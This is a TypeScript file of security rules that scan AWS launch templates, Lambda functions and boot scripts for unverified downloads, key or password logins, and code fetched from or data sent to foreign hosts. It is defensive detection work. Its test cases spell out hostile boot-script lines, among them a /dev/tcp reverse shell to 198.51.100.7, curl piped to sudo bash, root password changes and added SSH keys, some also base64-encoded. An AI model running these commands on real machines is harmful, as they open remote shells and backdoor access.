import type { Change } from '../../testing/mutation';
import { booting } from '../ec2/boot-text';
import type { Breaks } from '../ask';
import { rulesOf } from '../table';
import { noText } from './in-texts';
import { isOwnHost } from './own';

/** A word that a shell interprets as a command. */
const command = (...names: readonly string[]) =>
  new RegExp(
    `(?:^|[\\n;|&(\`{]|\\b(?:sudo|exec|then|do|else)\\b)[ \\t]*(?:-[ \\t]+)?(?:\\S*/)?(${names.join('|')})[ \\t]+[^\\s=:]`,
  );

/** Settings and options that disable the verification of downloads, from the manual of each program. */
const unchecked: readonly RegExp[] = [
  /\bcurl\b[^\n|;&]*\s(?:-(?!-)[a-zA-Z#]*k|--(?:proxy-|doh-)?insecure)\b/,
  /--no-check-certificate|check_certificate\s*=\s*off|no_check_certificate|ssl_verify_hostname=0/i,
  /\b(?:trusted|allow-insecure|allow-weak|allow-downgrade-to-insecure)\s*[=:]\s*yes\b/i,
  /--allow-unauthenticated|--allow-insecure-repositories|--force-yes|--force-bad-verify|--dangerous\b|--trusted-host\b/i,
  /Allow(?:Unauthenticated|InsecureRepositories|WeakRepositories|DowngradeToInsecureRepositories)/i,
  /Verify-(?:Peer|Host)\b["'\s=]*(?:false|no|0)/i,
  /--no-?gpg-?checks?|--no-?signature|--no-?digest|\b(?:repo_)?gpgcheck\s*=\s*(?:0|no|false)|\bsslverify["'\s=]+(?:0|no|false)/i,
  /strict-ssl["'\s=]+false|NODE_TLS_REJECT_UNAUTHORIZED["'\s=:]+0|PYTHONHTTPSVERIFY["'\s=:]+0|GIT_SSL_NO_VERIFY/i,
  /--no-verify-ssl|--(?:tls-)?skip-verify|InsecureSkipVerify|-SkipCertificateCheck|rejectUnauthorized["'\s:=]+(?:false|0)/i,
  /\bverify\s*=\s*False\b|\bCERT_NONE\b|check_hostname\s*=\s*False|_create_unverified_context/,
  /SSL_VERIFY(?:PEER|HOST)["'\s,=>]+(?:false|0)|["']verify_peer(?:_name)?["']\s*=>\s*(?:false|0)/i,
  /StrictHostKeyChecking["'\s=]+(?:no|off|accept-new)|UserKnownHostsFile["'\s=]+\/dev\/null/i,
  /(?:^|\n)\s*insecure\s*(?:\n|$)/,
  // This replaces HTTPS in an address by HTTP.
  /\bs([/|#,])https\1http\1/,
];

/** Access by a key or password of a person, which bypasses Session Manager. */
const waysIn: readonly RegExp[] = [
  /\b(?:sk-)?(?:ssh-(?:rsa|dss|ed25519)|ecdsa-sha2-nistp\d+)(?:@openssh\.com)?\s+AAAA/,
  /\bauthorized_keys|ssh[_-]import[_-]id|\bssh_pwauth\s*:\s*(?:true|yes|1)|\bTrustedUserCAKeys\b|AuthorizedKeysCommand/i,
  /\bPasswordAuthentication\s+yes|\bPermitRootLogin\s+(?!no\b)\w|\bPermitEmptyPasswords\s+yes/i,
  /\bchpasswd\b|\b(?:useradd|usermod)\b[^\n]*\s(?:-p|--password|-o)\b|\bpasswd\s+(?:-d|--delete|--stdin)\b|\bplain_text_passwd\b|\bhashed_passwd\b/,
  /\bNOPASSWD\b|>>?[ \t]*\/etc\/(?:passwd|shadow|group|sudoers)|\bAuthorizedKeysFile\b|\bssh-keygen\b|\buseradd\b[^\n]*\s-[a-z]*o/,
  /\bsystemctl\b[^\n]*\b(?:enable|start|unmask|restart|reload)\b[^\n]*\bsshd?\b|\biptables[ \t]+(?:-F|--flush)|\bufw[ \t]+disable/,
];

/** Programs that bring in foreign code, or send data out, around the buckets. */
const strangers: readonly RegExp[] = [
  /\/dev\/(?:tcp|udp)\//,
  /\b(?:curl|wget)\b[^\n|;&]*\s["']?\[[0-9a-f:]+\]/i,
  command(
    'nc',
    'ncat',
    'netcat',
    'socat',
    'telnet',
    'tftp',
    'ftp',
    'lftp',
    'rsync',
    'scp',
    'sftp',
    'ssh',
    'lynx',
    'aria2c',
  ),
  command('git clone', 'git pull', 'git fetch', 'add-apt-repository', 'apt-add-repository', 'apt-key'),
  command(
    'pip3? install',
    'pipx install',
    'npm (?:i|install|exec)',
    'npx',
    'gem install',
    'go install',
    'cargo install',
  ),
  command('docker (?:run|pull)', 'podman (?:run|pull)', 'composer (?:require|global)', 'pecl install'),
  /\|[ \t]*(?:sudo[ \t]+)?(?:\S*\/)?(?:ba|da|z|k)?sh\b(?![.\w-])|\b(?:eval|bash -c|sh -c)[ \t]+["']?\$\([ \t]*(?:curl|wget)|<\([ \t]*(?:curl|wget)/,
];

/** A download without a scheme: curl then uses http (curl manual, "URL"). */
const bare = /\b(?:curl|wget)\b[^\n|;&]*?\s["']?((?:[a-z0-9-]+\.)+[a-z]{2,})(?=[/:"'\s)]|$)/gi;
const address = /(?<![\w.-])(\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})(?![\w.-])/g;
/** Addresses of the machine and of private networks (RFC 1918, RFC 3927), and all of them. */
const near = /^(?:0\.0\.0\.0|10\.|127\.|169\.254\.|172\.(?:1[6-9]|2\d|3[01])\.|192\.168\.|255\.)/;

/** A text as the shell reads it: continuation lines are joined. */
const joined = (text: string) => text.replaceAll('\\\n', ' ');
/** True for a text that can contain a program or a setting: most values are one word. */
const mayRun = (text: string) => text.length > 80 || /[\s=$]/.test(text);
const isProgram = (text: string) => text.includes('\n');
const firstIn = (forms: readonly RegExp[], text: string) =>
  forms.map((form) => form.exec(text)?.[0].trim()).find((found) => found !== undefined);
const shown = (text: string) => JSON.stringify(text.slice(-60));

/** Breaks with a script at boot, plain and as base64 inside another script. */
const run = (...lines: readonly string[]): Breaks =>
  Object.fromEntries(
    lines.flatMap((line): [string, Change][] => [
      [`user data has: ${line}`, booting(`#!/bin/bash\n${line}\n`)],
      [
        `user data has in base64: ${line}`,
        booting(`#!/bin/bash\nbase64 --decode > /tmp/x <<EOF\n${Buffer.from(line).toString('base64')}\nEOF\n`),
      ],
    ]),
  );

/** The programs that run at boot, on a cluster, in a document of Systems Manager or in a function. */
export const scripts = rulesOf(
  'aws_launch_template',
  {
    MAL_RUN_1: {
      title: 'Programs verify their downloads',
      severity: 'critical',
      types: [],
      why: 'An attacker on the network can replace the program, which runs as root',
      fix: 'Remove the option that disables verification; download from a bucket of AWS or of this repository over HTTPS',
      ask: noText(
        ({ name, value }) => {
          // A variable of a function is a setting too.
          const text = /^[A-Z][A-Z_]+$/.test(name) ? `${name}=${value}` : value;
          const found = mayRun(text) ? firstIn(unchecked, joined(text)) : undefined;
          return found && `disables a verification: ${shown(found)}`;
        },
        {
          'a function accepts every certificate': {
            type: 'aws_lambda_function',
            path: '',
            change: (config) => (config.environment.variables.NODE_TLS_REJECT_UNAUTHORIZED = '0'),
          },
          ...run(
            'curl -sk https://s3.eu-west-1.amazonaws.com/x',
            'wget --no-check-certificate https://s3.eu-west-1.amazonaws.com/x',
            'echo "deb [trusted=yes] https://malinshopper.com ./" > /etc/apt/sources.list.d/x.list',
            'apt-get install --allow-unauthenticated x',
            'export NODE_TLS_REJECT_UNAUTHORIZED=0',
          ),
        },
      ),
    },
    MAL_RUN_2: {
      title: 'Machines allow no login by a key or a password',
      severity: 'critical',
      types: [],
      why: 'Session Manager checks IAM permissions and records the session. With a key on a machine, neither happens, and the key stays valid',
      fix: 'Leave it out: people start a session with Session Manager (apps/account/src/sessions.ts)',
      ask: noText(
        ({ value, name }) => {
          if (/^(key_name|ec2_key_name|ec2_ssh_key|public_key|key_pair)$/.test(name)) return `is ${shown(value)}`;
          const found = firstIn(waysIn, value);
          return found && `allows a login: ${shown(found)}`;
        },
        {
          ...run(
            'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI x" >> /etc/x',
            'cp x /root/.ssh/authorized_keys',
            'echo PasswordAuthentication yes >> /etc/ssh/sshd_config',
            'echo root:x | chpasswd',
          ),
          'instances have a key of a person': (config) => (config.key_name = 'ops'),
        },
      ),
    },
    MAL_RUN_3: {
      title: 'Programs come from buckets and packages of the image, and send data nowhere else',
      severity: 'critical',
      types: [],
      why: 'The owner of the other end can choose the program that runs on the machine, or can receive its data',
      fix: 'Put the program into the image or the packages bucket (tools/software), and download it by its HTTPS address',
      ask: noText(
        ({ value, wasEncoded }, { environment }) => {
          if (!mayRun(value)) return undefined;
          const text = joined(value);
          const found = firstIn(strangers, text);
          if (found !== undefined) return `runs ${shown(found)}`;
          const named = [...text.matchAll(bare)].find(([, host = '']) => !isOwnHost(host, environment));
          if (named) return `downloads from ${named[1]}`;
          const far =
            (wasEncoded || isProgram(text)) && [...text.matchAll(address)].find(([, each = '']) => !near.test(each));
          return far ? `names the address ${far[1]}` : undefined;
        },
        run(
          'curl get.example.com/x > x',
          'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
          'git clone https://malinshopper.com/x',
          'pip install x',
          'curl https://s3.eu-west-1.amazonaws.com/x | sudo bash',
          'echo 198.51.100.7 example >> /etc/hosts',
        ),
      ),
    },
  },
  { type: 'aws_launch_template', path: 'web/template/Resource' },
);
